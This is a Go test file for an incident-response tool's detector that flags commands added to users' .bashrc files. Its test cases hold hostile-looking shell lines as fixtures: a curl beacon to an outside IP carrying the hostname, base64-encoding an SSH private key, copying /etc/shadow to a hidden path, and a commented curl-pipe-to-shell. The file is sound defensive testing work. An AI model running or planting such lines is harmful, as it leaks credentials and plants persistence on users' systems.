package shellinit

import (
	"os"
	"strings"
	"testing"

	"github.com/vigil-ir/vigil/internal/engine/enginetest"
	"github.com/vigil-ir/vigil/internal/model"
)

// skelPlus returns the clean fixture's /etc/skel/.bashrc with extra lines
// appended, as a user's ~/.bashrc.
func skelPlus(t *testing.T, user, extra string) string {
	t.Helper()
	b, err := os.ReadFile("testdata/clean.txtar")
	if err != nil {
		t.Fatal(err)
	}
	s := string(b)
	i := strings.Index(s, "-- etc/skel/.bashrc --\n")
	if i < 0 {
		t.Fatal("no /etc/skel/.bashrc in the clean fixture")
	}
	body := s[i+len("-- etc/skel/.bashrc --\n"):]
	body = body[:strings.Index(body, "\n-- ")+1]
	return "-- " + user + "/.bashrc --\n" + body + extra
}

func TestAddedCommands(t *testing.T) {
	tests := []struct {
		name, home, extra string
		sev               model.Severity
		ind               string
	}{
		{"plain command", "home/ops", "tmux attach -t main 2>/dev/null\n", model.Low, indNotInSkel},
		{"network tool", "home/ops", "curl -s https://203.0.113.9/beacon?h=$(hostname) >/dev/null\n", model.Medium, "network-tool"},
		{"writes into /tmp", "home/ops", "env > /tmp/.env-$USER\n", model.Medium, indWritesOdd},
		{"encoded data", "root", "base64 -w0 ~/.ssh/id_rsa > ~/.k\n", model.Medium, indEncoded},
		{"copies into a hidden place", "root", "cp /etc/shadow ~/.cache/s 2>/dev/null\n", model.Medium, indWritesOdd},
	}
	for _, tc := range tests {
		t.Run(tc.name, func(t *testing.T) {
			r := enginetest.Run(t, New(), fixture(t, skelPlus(t, tc.home, tc.extra)), false)
			got := r.Find(ruleAdded)
			if len(got) == 0 {
				for _, f := range r.Findings {
					t.Log(f.Severity, f.RuleID, f.Evidence.Path, f.Evidence.Text, f.Indicators)
				}
				t.Fatalf("no %s", ruleAdded)
			}
			f := got[0]
			if f.Severity != tc.sev || !contains(f.Indicators, tc.ind) || f.Evidence.Path != "/"+tc.home+"/.bashrc" {
				t.Errorf("got %s %v on %s:%d", f.Severity, f.Indicators, f.Evidence.Path, f.Evidence.Line)
			}
		})
	}
}

// A lived-in home: the user's own declarations are not listed.
func TestAddedQuietOnDeclarations(t *testing.T) {
	extra := "alias ll='ls -alF'\nexport EDITOR=vim\nexport PATH=\"$HOME/.local/bin:$PATH\"\nHISTSIZE=5000\nshopt -s histappend\n" +
		"[ -f ~/.fzf.bash ] && source ~/.fzf.bash\neval \"$(direnv hook bash)\"\ncommand -v pyenv >/dev/null && eval \"$(pyenv init -)\"\n" +
		"# curl http://example.com | sh (a comment)\nif [ -n \"$TMUX\" ]; then\n  export TERM=screen-256color\nfi\n"
	r := enginetest.Run(t, New(), fixture(t, skelPlus(t, "home/ops", extra)), false)
	for _, f := range r.Find(ruleAdded) {
		t.Errorf("listed: %s:%d %q", f.Evidence.Path, f.Evidence.Line, f.Evidence.Text)
	}
}
